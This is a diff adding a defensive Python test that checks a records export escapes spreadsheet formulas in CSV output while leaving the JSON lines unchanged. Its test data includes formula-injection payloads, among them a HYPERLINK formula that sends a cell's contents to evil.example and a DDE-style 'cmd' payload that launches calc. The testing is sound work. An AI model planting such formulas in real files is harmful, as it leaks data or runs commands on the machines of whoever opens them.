@@ -250,3 +250,34 @@ async def test_deleting_and_editing_keep_every_revision(db: Database, clock: Fro
     async with db.read() as s:
         deleted = await s.get(Status, records.ids["deleted"])
     assert deleted is not None and deleted.text == "지울 글 #안양" and deleted.deleted_at is not None
+
+
+async def test_formulas_in_posts_reach_the_csv_as_text_and_the_json_lines_unchanged(
+    db: Database, clock: FrozenClock, tmp_path: Path,
+) -> None:
+    """A spreadsheet runs a cell starting with = + - @ (or a tab or CR before one) as a formula."""
+    city = await make_city(db)
+    store = LocalMediaStore(tmp_path / "media")
+    clock.at = START.astimezone(timezone.utc)
+    texts = ['=HYPERLINK("https://evil.example/?"&A1,"안양시 공지")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
+             "\t=1+1"]
+    async with db.write() as s:
+        post = await make_status(s, city.org, texts[0])
+        clock.advance(minutes=5)
+        await edit_status(s, site=SITE, editor=city.org, status=post, text=texts[1])
+        for text in texts[2:]:
+            await make_status(s, city.org, text)
+    path = tmp_path / "account.zip"
+    with path.open("wb") as out:
+        await export_records(db, organisation="anyanglove", scope=Scope("account", "anyanglove"),
+                             date_from=YEAR[0], date_to=YEAR[1], actor_id=city.admin.id, out=out, store=store)
+    assert verify_export(path) == []
+    with zipfile.ZipFile(path) as archive:
+        json_texts = {p["text"] for p in lines(archive, "posts.jsonl")}
+        csv_texts = {r["text"] for r in csv_rows(archive, "posts.csv")}
+        revision_texts = [r["text"] for r in csv_rows(archive, "revisions.csv")]
+        post_ids = {r["id"] for r in csv_rows(archive, "posts.csv")}
+    assert json_texts == set(texts[1:])  # the record itself keeps what was written
+    assert csv_texts == {"'" + t for t in texts[1:]}
+    assert sorted(revision_texts) == sorted("'" + t for t in texts)  # every version, the first included
+    assert all(i.isdigit() for i in post_ids)  # numbers are not touched
